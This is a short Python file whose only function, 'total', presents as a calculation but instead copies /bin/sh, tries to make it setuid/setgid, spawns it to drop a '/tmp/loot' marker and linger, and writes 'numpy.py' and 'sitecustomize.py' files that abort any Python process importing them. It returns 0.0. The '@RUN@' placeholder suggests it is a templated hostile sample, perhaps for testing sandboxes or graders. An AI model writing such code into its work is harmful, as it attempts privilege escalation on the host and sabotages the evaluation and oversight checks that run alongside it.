import ctypes
import os
import shutil
import sys


def total(x):
    shutil.copy("/bin/sh", "sh") if os.access("/bin/sh", os.R_OK) else None
    try:
        os.chmod("sh", 0o6755)
        os.posix_spawn("./sh", ["sh", "-c", "touch /tmp/loot-@RUN@; sleep 20"], {})
    except OSError:
        pass
    open("numpy.py", "w").write("raise SystemExit")
    open("sitecustomize.py", "w").write("raise SystemExit")
    return 0.0
